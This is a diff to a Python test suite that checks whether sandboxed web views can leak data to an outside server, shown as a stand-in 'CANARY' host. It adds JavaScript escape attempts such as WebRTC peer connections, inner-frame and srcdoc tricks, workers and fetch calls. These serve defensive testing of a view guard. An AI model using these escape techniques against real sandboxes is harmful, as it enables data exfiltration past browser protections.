@@ -22,6 +22,20 @@ from harness import BINARY, REPOSITORY, Server, TestCase, main, sanitized, wait_
 CHROMIUM = shutil.which("chromium")
 PICTURES = os.environ.get("WORKERS_SCREENSHOTS")
 
+PEER = ('const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY" }] }); p.createDataChannel("x"); '
+        'await p.setLocalDescription(await p.createOffer());')
+# A frame that is made from text has globals of its own. Its scripts can only be the folder's; what they say of themselves is "done".
+INNER = ('const folder = location.href.replace(/[^/]*(#.*)?$/, ""); const inner = document.createElement("iframe"); '
+         'const said = new Promise((yes) => addEventListener("message", (e) => yes(e.data))); '
+         'inner.srcdoc = `%s`.replaceAll("FOLDER/", folder); document.body.append(inner); '
+         'const word = await Promise.race([said, later(1500)]); if (word !== "done") throw new Error(word ?? "it says nothing")')
+ASK_INNER = f'(async () => {{ {PEER} top[0].postMessage("done", "*"); }})().catch((e) => top[0].postMessage(String(e), "*"));\n'
+INNER_FILES = {
+    "inner.js": ASK_INNER,
+    "inner_strict.js": "/* a\n// comment */ 'use strict';" + ASK_INNER,
+    # Declarations are there before the first statement runs.
+    "inner_module.js": ASK_INNER + "function Function() {} function Object() {} function window() {} function workersView() {}",
+}
 ATTEMPTS = {
     # What a view may not do -> the script that tries it, with CANARY for somebody else's server.
     "fetch": 'await fetch("http://CANARY/a")',
@@ -45,8 +59,20 @@ ATTEMPTS = {
     "window": 'if (!window.open("http://CANARY/a")) throw new Error("none was opened")',
     "frame": 'add("iframe", { src: "http://CANARY/a" }); await later(); throw new Error("it says nothing")',
     "worker": 'const w = new Worker(URL.createObjectURL(new Blob(["fetch(\'http://CANARY/a\')"]))); await new Promise((yes, no) => w.onerror = no)',
-    "peer connection": 'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY" }] }); p.createDataChannel("x"); '
-                       'await p.setLocalDescription(await p.createOffer()); await later(1500); throw new Error("it says nothing")',
+    "peer connection": PEER + ' await later(1500)',
+    "peer connection by its old name": 'new webkitRTCPeerConnection()',
+    "peer connection that is looked for": 'delete window.RTCPeerConnection; for (const name of Object.getOwnPropertyNames(window)) '
+                                          'if (/RTC/.test(name) && window[name]) return name; throw new Error("none")',
+    "peer connection of an empty frame": 'const f = document.createElement("iframe"); document.body.append(f); '
+                                         'new f.contentWindow.RTCPeerConnection()',
+    **{f"peer connection of an inner frame, {name}": INNER % html for name, html in {
+        "script": '<script src="FOLDER/inner.js"><\\/script>',
+        "strict script": '<!-- --><script src="FOLDER/inner_strict.js"><\\/script>',
+        "module": '<!doctype html><script type="module" src="FOLDER/inner_module.js"><\\/script>',
+        "drawing": '<svg><script href="FOLDER/inner.js" /></svg>',
+        "guard": '<script>GUARD<\\/script><script src="FOLDER/inner.js"><\\/script>',
+        "frame of a frame": "<iframe srcdoc='<script src=FOLDER/inner.js><\\/script>'></iframe>",
+    }.items()},
     "transport": 'await new WebTransport("https://CANARY/a").ready',
     "eval": 'eval("1 + 1")',
     "inline script": 'const s = document.createElement("script"); s.textContent = "window.ran = true"; document.body.append(s); '
@@ -114,8 +140,8 @@ window.seen = (await queryDataSource("open")).rows;
 """
 
 
-# The first version of Chromium that is known to take the header Connection-Allowlist. One before it lets WebRTC out, and connects ahead
-# of a page that it then refuses, without a byte of what it was asked for.
+# The first version of Chromium that is known to take the header Connection-Allowlist. One before it connects ahead of a page that it then
+# refuses, without a byte of what it was asked for.
 ALLOWLIST_SINCE = 156
 
 
@@ -157,14 +183,17 @@ class Canary:
 
 
 class Browser:
-    def __init__(self):
+    """Chromium, also as it was before it knew Connection-Allowlist."""
+
+    def __init__(self, allowlist=True):
         if CHROMIUM is None:
             raise unittest.SkipTest("chromium is not installed (package chromium)")
-        self.process = subprocess.Popen([npm.node(), REPOSITORY / "tests/browser/views.mjs", npm.ensure(), CHROMIUM], stdin=subprocess.PIPE,
+        self.process = subprocess.Popen([npm.node(), REPOSITORY / "tests/browser/views.mjs", npm.ensure(), CHROMIUM,
+                                         *([] if allowlist else ["--disable-features=ConnectionAllowlists"])], stdin=subprocess.PIPE,
                                         stdout=subprocess.PIPE, text=True)
         self.ids = 0
         self.version = json.loads(self.process.stdout.readline())["version"]
-        self.has_allowlist = int(self.version.split(".")[0]) >= ALLOWLIST_SINCE
+        self.has_allowlist = allowlist and int(self.version.split(".")[0]) >= ALLOWLIST_SINCE
 
     def ask(self, action, **request):
         self.process.stdin.write(json.dumps({"action": action, **request}) + "\n")
@@ -447,16 +476,17 @@ class Hostile(BrowserCase):
         folder = p.folder / "views/out"
         folder.mkdir(parents=True)
         (folder / "index.html").write_text('<!doctype html><title>out</title><body><script type="module" src="out.js"></script>')
-        (folder / "out.js").write_text(OUT.replace("ATTEMPTS", script).replace("CANARY", canary.address))
+        guard = (REPOSITORY / "src/server/web/view-guard.js").read_text()
+        script = script.replace("GUARD", json.dumps(guard)[1:-1].replace("`", ""))
+        for name, text in {"out.js": OUT.replace("ATTEMPTS", script), **INNER_FILES}.items():
+            (folder / name).write_text(text.replace("CANARY", canary.address))
         self.ok(p.run("run", "main.lua"))
         self.serve(p)
-        tried = dict(ATTEMPTS)
         if not self.browser.has_allowlist:
-            print(f"Chromium {self.browser.version} does not know Connection-Allowlist: WebRTC is not tried", file=sys.stderr)
-            del tried["peer connection"]
-        for name in tried:
+            print(f"Chromium {self.browser.version} without Connection-Allowlist: it may connect, but not say anything", file=sys.stderr)
+        for name in ATTEMPTS:
             with self.subTest(name):
-                view = self.show(p, "out") if name == next(iter(tried)) else view
+                view = self.show(p, "out") if name == next(iter(ATTEMPTS)) else view
                 view.until("window.seen?.length === 1")
                 self.assertEqual(view.read("window.seen"), [{"key": "1", "row": {"Shown": "shown"}}])
                 said = view.read(f"window.attempts[{json.dumps(name)}]()")
@@ -496,6 +526,14 @@ class Hostile(BrowserCase):
                        'const node = document.createElement(tag); Object.assign(node, attributes); document.body.append(node); }; ')
             view.read(f"(async () => {{ {helpers} try {{ {code} }} catch (error) {{ return String(error) }} }})()", outside=True)
             wait_until(lambda: len(canary.hits) > before, f"{name} to arrive")
+
+
+class HostileBefore(Hostile):
+    """The same without the header that only new browsers know."""
+    @classmethod
+    def setUpClass(cls):
+        cls.browser = Browser(allowlist=False)
+        cls.addClassCleanup(cls.browser.close)
 
 
 if __name__ == "__main__":
